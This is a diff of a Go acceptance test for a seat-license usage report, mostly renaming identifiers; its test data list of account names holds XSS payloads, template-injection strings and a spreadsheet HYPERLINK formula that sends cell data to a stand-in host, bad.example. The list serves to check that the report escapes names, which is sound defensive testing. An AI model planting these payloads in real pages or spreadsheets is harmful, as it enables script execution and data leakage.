@@ -28,7 +28,7 @@ const (
 	// unusable is how long sorting or filtering more than a thousand seats must not take, in milliseconds. It is well
 	// under 500 on an idle machine, and whatever a browser without a screen makes of it on a busy one: the figure is in
 	// the log.
-	unusable = 10_000
+	slowestAllowed = 10_000
 )
 
 // TestAccLicenseReport applies examples/reports/license-usage and holds what it makes against the simulator's state, in
@@ -44,7 +44,7 @@ func TestAccLicenseReport(t *testing.T) {
 		"acme":          reportOfAcme,
 		"five seats":    reportOfFiveSeats,
 		"many seats":    reportOfManySeats,
-		"no app":        reportOfNothing,
+		"no app":        reportWithoutApps,
 		"all used":      reportWithoutUnusedSeats,
 		"wrong numbers": reportWithBadInput,
 	} {
@@ -219,8 +219,8 @@ func sorted(texts []string) []string {
 	return texts
 }
 
-// hostile are names that a page, a table or a template might take for something else.
-var hostile = []string{
+// hostileNames are names that a page, a table or a template might take for something else.
+var hostileNames = []string{
 	`<script>hacked = parent.hacked = true</script>`, `</script></table><script>parent.hacked = true</script>`,
 	`"><img src="x" onerror="parent.hacked = true">`, `'><svg onload='parent.hacked=true'>`, `&lt;b&gt; &amp; &quot;`,
 	`\u003cimg src=x\u003e \\u003c \" \\`, `$${name} %%{ if true } ${name}`, `=HYPERLINK("https://bad.example?"&A1,"x")`, `+1+1`, `-2+3`, `@SUM(A1)`,
@@ -245,7 +245,7 @@ func reportOfAcme(t *testing.T, c *cli) {
 	env.Simulator.AddWorkspace(simulator.Workspace{
 		ID: "ari:cloud:bitbucket::workspace/{second}", TypeKey: "bitbucket", TypeName: "Bitbucket", Status: "online", HostURL: "https://bitbucket.org/acme-more", Capacity: new(int),
 	})
-	env.Simulator.SeedAccounts(len(hostile)*2, simulator.AccountSeed{Workspaces: []string{"ari:cloud:bitbucket::workspace/{second}", bitbucket}})
+	env.Simulator.SeedAccounts(len(hostileNames)*2, simulator.AccountSeed{Workspaces: []string{"ari:cloud:bitbucket::workspace/{second}", bitbucket}})
 
 	for i, holder := range env.Simulator.SeatHolders(jira) {
 		if i < 20 {
@@ -255,7 +255,7 @@ func reportOfAcme(t *testing.T, c *cli) {
 
 	for i, holder := range env.Simulator.SeatHolders("ari:cloud:bitbucket::workspace/{second}") {
 		env.Simulator.SetAccount(holder.AccountID, func(a *simulator.Account) {
-			a.Name = hostile[i%len(hostile)]
+			a.Name = hostileNames[i%len(hostileNames)]
 			a.EmailHidden = i%5 == 4
 		})
 	}
@@ -293,13 +293,13 @@ func reportOfAcme(t *testing.T, c *cli) {
 	t.Run("accessible", func(t *testing.T) {
 		t.Parallel()
 
-		accessible(t, report.path("html"))
+		checkAccessibility(t, report.path("html"))
 	})
 
 	t.Run("paper", func(t *testing.T) {
 		t.Parallel()
 
-		pages, text := onPaper(t, report.path("html"))
+		pages, text := printToPDF(t, report.path("html"))
 		if pages < 3 || pages > 12 {
 			t.Errorf("on paper the report has %d pages", pages)
 		}
@@ -392,7 +392,7 @@ func reportOfManySeats(t *testing.T, c *cli) {
 	examine(t, seen, counted, map[string]float64{"Jira": 1007.91, "Confluence": 6.05})
 
 	// Two pages of summary, and not a hundred of names.
-	if pages, text := onPaper(t, report.path("html")); pages > 2 || text != "" && !strings.Contains(text, "too many lines for paper") {
+	if pages, text := printToPDF(t, report.path("html")); pages > 2 || text != "" && !strings.Contains(text, "too many lines for paper") {
 		t.Errorf("on paper %d seats have %d pages:\n%s", len(seen.Initial), pages, text)
 	}
 
@@ -407,12 +407,12 @@ func reportOfManySeats(t *testing.T, c *cli) {
 
 	t.Logf("%d seats: the slowest of %d sorts and %d filters took %.0f ms", len(seen.Initial), len(seen.Sorts), len(seen.Filters), slowest)
 
-	if slowest > unusable {
+	if slowest > slowestAllowed {
 		t.Errorf("sorting or filtering %d seats takes %.0f ms", len(seen.Initial), slowest)
 	}
 }
 
-func reportOfNothing(t *testing.T, c *cli) {
+func reportWithoutApps(t *testing.T, c *cli) {
 	env := acctest.Start(t)
 
 	report := makeReport(t, c, env, "-var", `cost_per_seat={}`)
@@ -829,7 +829,7 @@ func compareJSON(t *testing.T, report report, env *acctest.Environment) {
 		t.Errorf("%d apps; totals differ by %d, unused seats by %d", len(made.Licenses), used, unused)
 	}
 
-	for _, name := range hostile {
+	for _, name := range hostileNames {
 		if !slices.ContainsFunc(made.Unused.Seats, func(seat struct {
 			Name        string `json:"name"`
 			NeverActive bool   `json:"never_active"`
